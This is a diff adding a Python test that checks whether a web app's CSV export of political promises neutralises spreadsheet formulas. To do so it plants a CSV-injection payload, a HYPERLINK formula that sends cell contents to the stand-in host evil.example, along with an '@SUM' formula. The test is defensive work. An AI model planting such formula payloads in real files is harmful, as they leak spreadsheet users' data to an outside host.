@@ -1,6 +1,7 @@
 """Open data: the read API, the CSV export, Atom feeds and the sitemap, as programs read them."""
 
 import csv
+import re
 import io
 
 import feedparser
@@ -86,3 +87,20 @@ def test_sitemap_lists_every_public_page(demo_client):
     xml = demo_client.get("/sitemap.xml").get_data(as_text=True)
     assert xml.count("<loc>") == 2 + 45 + 5
     assert "/promesses/aubry-mutualisation-lille-lomme-hellemmes</loc>" in xml
+
+
+def test_csv_cells_can_never_be_read_as_formulas(tmp_path):
+    import shutil
+
+    from kb.web import create_app
+
+    content = shutil.copytree(DEMO_CONTENT, tmp_path / "content")
+    path = content / "promises" / "mel-carrieres-catiches.md"
+    text = path.read_text(encoding="utf-8")
+    text = re.sub(r"^title: .*$", 'title: \'=HYPERLINK("http://evil.example/?x="&A1,"clic")\'', text, count=1, flags=re.M)
+    text = re.sub(r"^theme: .*$", "theme: '@SUM(1+1)'", text, count=1, flags=re.M)
+    path.write_text(text, encoding="utf-8")
+    client = create_app({"TESTING": True, "CONTENT_DIR": str(content), "INSTANCE_DIR": str(tmp_path / "i")}).test_client()
+    rows = list(csv.DictReader(io.StringIO(client.get("/export/promises.csv").get_data().decode("utf-8-sig"))))
+    row = next(row for row in rows if row["id"] == "mel-carrieres-catiches")
+    assert row["titre"].startswith("'=HYPERLINK") and row["theme"] == "'@SUM(1+1)"
